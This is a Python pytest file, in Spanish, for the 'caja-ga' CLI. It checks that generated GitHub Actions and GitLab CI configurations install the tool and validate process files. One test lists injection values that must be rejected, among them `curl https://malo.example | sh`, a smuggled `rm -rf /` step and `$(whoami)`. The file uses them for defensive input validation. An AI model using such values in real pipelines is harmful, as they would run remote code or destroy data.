"""La integración continua que escribe `init --repositorio` instala caja-ga y valida de verdad.

Se construye la rueda de este proyecto, se arma un repositorio que instala desde ella
(`--instalar-desde ci/<rueda>`) y se ejecutan, en un entorno virtual limpio, los pasos `run` del
flujo de GitHub Actions y el `script` del trabajo de GitLab tal como están escritos: con un proceso
válido pasan; con uno roto fallan con anotaciones y con el informe Code Quality. Hace falta el
índice de paquetes (para las dependencias), como a cualquier usuario.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.conftest import RAIZ, CajaGa


def _repositorio(caja_ga: CajaGa, raiz: Path, rueda: Path) -> Path:
    (raiz / "ci").mkdir(parents=True)
    shutil.copy(rueda, raiz / "ci" / rueda.name)
    resultado = caja_ga(
        "init",
        "--repositorio",
        "--municipio",
        "14120",
        "--periodo",
        "2024-2027",
        "--sin-preguntas",
        "--instalar-desde",
        f"ci/{rueda.name}",
        cwd=raiz,
    )
    assert resultado.returncode == 0, resultado.stdout + resultado.stderr
    return raiz


def _entorno_limpio(carpeta: Path) -> dict[str, str]:
    subprocess.run([sys.executable, "-m", "venv", str(carpeta)], check=True, timeout=300)
    ruta = f"{carpeta / 'bin'}{os.pathsep}{os.environ.get('PATH', '')}"
    return {**os.environ, "PATH": ruta, "PIP_DISABLE_PIP_VERSION_CHECK": "1"}


def _correr(orden: str, cwd: Path, entorno: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", "-c", orden], cwd=cwd, env=entorno, capture_output=True, text=True, timeout=900
    )


def _romper(repositorio: Path) -> None:
    """Una segunda «fase» en proceso.yaml: clave repetida (GA002), un error que hace fallar."""
    plan = repositorio / "jalisco" / "zapopan" / "2024-2027" / "proceso.yaml"
    plan.write_text(plan.read_text(encoding="utf-8") + "fase: inventada\n", encoding="utf-8")


def test_el_flujo_de_github_instala_y_valida(caja_ga: CajaGa, rueda: Path, tmp_path: Path) -> None:
    repositorio = _repositorio(caja_ga, tmp_path / "repo", rueda)
    flujo = yaml.safe_load((repositorio / ".github/workflows/caja-ga.yml").read_text("utf-8"))
    pasos = {p["name"]: p["run"] for p in flujo["jobs"]["validar"]["steps"] if "run" in p}
    assert pasos["Instalar caja-ga"] == f'pip install "./ci/{rueda.name}"'
    entorno = {**_entorno_limpio(tmp_path / "venv"), "GITHUB_ACTIONS": "true"}
    instalado = _correr(pasos["Instalar caja-ga"], repositorio, entorno)
    assert instalado.returncode == 0, instalado.stderr
    assert (tmp_path / "venv" / "bin" / "caja-ga").exists()
    valido = _correr(pasos["Validar los procesos"], repositorio, entorno)
    assert valido.returncode == 0, valido.stdout + valido.stderr
    _romper(repositorio)
    roto = _correr(pasos["Validar los procesos"], repositorio, entorno)
    assert roto.returncode == 1
    assert "::error file=jalisco/zapopan/2024-2027/proceso.yaml,line=" in roto.stdout


def test_el_trabajo_de_gitlab_instala_y_publica_code_quality(
    caja_ga: CajaGa, rueda: Path, tmp_path: Path
) -> None:
    repositorio = _repositorio(caja_ga, tmp_path / "repo", rueda)
    trabajo = yaml.safe_load((repositorio / ".gitlab-ci.yml").read_text("utf-8"))["caja-ga"]
    assert trabajo["artifacts"]["reports"]["codequality"] == "gl-code-quality-report.json"
    assert trabajo["artifacts"]["when"] == "always"
    entorno = {**_entorno_limpio(tmp_path / "venv"), **trabajo["variables"]}
    assert entorno["CAJA_GA_PAQUETE"] == f"./ci/{rueda.name}"
    guion = "set -e\n" + "\n".join(trabajo["script"])
    assert _correr(guion, repositorio, entorno).returncode == 0
    # Un proceso recién creado solo tiene avisos (lo que falta llenar en su fase).
    assert _graves(repositorio) == []
    _romper(repositorio)
    roto = _correr(guion, repositorio, entorno)
    assert roto.returncode == 1
    assert _graves(repositorio) == [("GA002", "jalisco/zapopan/2024-2027/proceso.yaml")]


def _graves(repositorio: Path) -> list[tuple[str, str]]:
    """Los errores del informe Code Quality (los avisos son «minor»)."""
    informe = json.loads((repositorio / "gl-code-quality-report.json").read_text("utf-8"))
    assert {i["severity"] for i in informe} <= {"major", "minor"}
    return [(i["check_name"], i["location"]["path"]) for i in informe if i["severity"] == "major"]


@pytest.mark.parametrize(
    ("fuente", "paquete"),
    [
        (
            "git+https://git.ejemplo.mx/caja-ga.git@v0.2.0",
            "git+https://git.ejemplo.mx/caja-ga.git@v0.2.0",
        ),
        (None, None),
    ],
)
def test_fuentes_aceptadas(
    caja_ga: CajaGa, tmp_path: Path, fuente: str | None, paquete: str | None
) -> None:
    from caja_ga import __version__

    opciones = ["--instalar-desde", fuente] if fuente else []
    resultado = caja_ga(
        "init",
        "--repositorio",
        "--municipio",
        "14120",
        "--periodo",
        "2024-2027",
        "--sin-preguntas",
        *opciones,
        cwd=tmp_path,
    )
    assert resultado.returncode == 0, resultado.stderr
    esperado = paquete or f"caja-ga=={__version__}"
    trabajo = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text("utf-8"))["caja-ga"]
    assert trabajo["variables"]["CAJA_GA_PAQUETE"] == esperado
    gancho = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text("utf-8"))
    assert gancho["repos"][0]["hooks"][0]["additional_dependencies"] == [esperado]


@pytest.mark.parametrize(
    "fuente",
    [
        "caja-ga",
        "https://git.ejemplo.mx/caja-ga.git",
        "git+https://git.ejemplo.mx/caja-ga.git",
        "../fuera.whl",
        "ci/no-existe.whl",
        # Lo que iría a un `run:` de la CI: nunca órdenes inyectadas.
        'git+https://git.ejemplo.mx/caja-ga.git@v1" && curl https://malo.example | sh #',
        "git+https://git.ejemplo.mx/caja-ga.git@v1\n      - run: rm -rf /",
        "git+https://git.ejemplo.mx/caja-ga.git@$(whoami)",
    ],
)
def test_fuentes_rechazadas_no_escriben_nada(caja_ga: CajaGa, tmp_path: Path, fuente: str) -> None:
    resultado = caja_ga(
        "init",
        "--repositorio",
        "--municipio",
        "14120",
        "--periodo",
        "2024-2027",
        "--sin-preguntas",
        "--instalar-desde",
        fuente,
        cwd=tmp_path,
    )
    assert resultado.returncode == 2
    assert "Error:" in resultado.stderr
    assert list(tmp_path.iterdir()) == []


def test_el_proyecto_publica_cada_version_etiquetada() -> None:
    """Lo que instalan los archivos generados existe: cada etiqueta vX.Y.Z se publica."""
    flujo = yaml.safe_load((RAIZ / ".github/workflows/publicar.yml").read_text("utf-8"))
    assert flujo[True]["push"]["tags"] == ["v*"]  # «on» es un booleano en YAML 1.1
    construir, publicar = flujo["jobs"]["construir"], flujo["jobs"]["publicar"]
    ordenes = "\n".join(paso.get("run", "") for paso in construir["steps"])
    assert "python -m build" in ordenes
    assert 'test "v$version" = "$GITHUB_REF_NAME"' in ordenes
    assert publicar["permissions"] == {"id-token": "write"}
    assert publicar["steps"][-1]["uses"].startswith("pypa/gh-action-pypi-publish")
